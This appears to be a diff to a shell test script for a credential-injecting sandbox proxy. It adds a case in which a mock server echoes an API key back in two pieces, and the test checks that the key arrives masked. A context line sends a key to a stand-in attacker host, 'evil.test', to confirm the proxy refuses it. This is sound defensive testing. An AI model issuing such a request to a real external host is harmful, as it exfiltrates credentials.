@@ -12,7 +12,8 @@
 # chunked too (a placeholder split across chunks); there a body that cannot
 # be rewritten (over the bound, chunked or not, another type) is refused or
 # cut where a placeholder passes; Basic credentials are decoded, rewritten
-# toward the bound host only, refused toward another and in plain HTTP.  Then the secret must be absent from every file under the state
+# toward the bound host only, refused toward another and in plain HTTP; a
+# server quoting the key back in two pieces hands the sandbox only '*'s.  Then the secret must be absent from every file under the state
 # root (journal included, sealed segments decompressed), every event, the
 # runs' stdout/stderr and the daemon's log; the events validate against the
 # official OCSF 1.8.0 schema and carry which credential went to which host.
@@ -43,7 +44,7 @@ chmod 0600 "$KEYS/openai" "$KEYS/gh"
 # The upstream: TLS on 443 (every test name), plain HTTP on 80.  Each
 # request is logged (host, path) to seen.log; the answer says what it got.
 cat >"$T/cred_server.py" <<'PY'
-import base64, json, ssl, sys, threading, urllib.parse
+import base64, json, ssl, sys, threading, time, urllib.parse
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 s1, s2 = (open(f).read().strip() for f in sys.argv[3:5])
 log = open(sys.argv[5], "a", buffering=1)
@@ -80,6 +81,18 @@ class H(BaseHTTPRequestHandler):
             form = what(urllib.parse.parse_qs(text).get("key", [""])[0])
         elif self.headers.get("Content-Type", "").startswith("application/json") and body:
             text = json.dumps(json.loads(body))  # a body the rewrite broke would not parse
+        if self.path == "/v1/echo":  # a careless server quoting the key, in two writes
+            got = self.headers.get("Authorization", "").replace("Bearer ", "").encode()
+            a, b = b'{"echo": "' + got[:9], got[9:] + b'"}'
+            self.send_response(401)
+            self.send_header("Content-Type", "application/json")
+            self.send_header("Content-Length", str(len(a) + len(b)))
+            self.end_headers()
+            self.wfile.write(a)
+            self.wfile.flush()
+            time.sleep(0.05)  # two TLS records, two reads on the proxy's side
+            self.wfile.write(b)
+            return
         out = json.dumps({"auth": what(auth), "body": what(text), "form": form,
                           "len": len(body)}).encode()
         self.send_response(200)
@@ -170,6 +183,7 @@ echo "bodybig $($k -o /dev/null -w '%{http_code}' -H 'Content-Type: application/
 rm -f "$big"
 echo "octet $($k -o /dev/null -w '%{http_code}' -H 'Content-Type: application/octet-stream' --data-binary "k=$OPENAI_API_KEY" https://body.test/v1/octet)"
 echo "basic $($k -u "me:$OPENAI_API_KEY" https://api.test/v1/basic)"
+echo "echo $($k -H "Authorization: Bearer $OPENAI_API_KEY" https://api.test/v1/echo)"
 echo "basicunbound $($k -o /dev/null -w '%{http_code}' -u "me:$OPENAI_API_KEY" https://evil.test/v1/basicstolen)"
 echo "basicplain $($k -o /dev/null -w '%{http_code}' -u "me:$OPENAI_API_KEY" http://api.test/v1/basicplain)"
 /usr/bin/python3 - <<'PYC'
@@ -224,6 +238,7 @@ check "body over the bound with a placeholder refused" 413 "$(field bodybig)"
 check "a type that is not rewritten, with a placeholder, on an opted-in endpoint: refused" 403 "$(field octet)"
 check "Basic credentials: decoded, rewritten toward the bound host" secret1 "$(j basic .auth)"
 check "Basic credentials toward an unbound host refused" 403 "$(field basicunbound)"
+check "a server quoting the key back, split across two reads: masked" "$(printf '%*s' ${#S1} '' | tr ' ' '*')" "$(j echo .echo)"
 check "Basic credentials in plain HTTP refused" 403 "$(field basicplain)"
 check "chunked body, the placeholder split across chunks: rewritten" secret1 "$(j chunked .body)"
 check "chunked body over the bound with a placeholder refused" 413 "$(j chunkbig .status)"
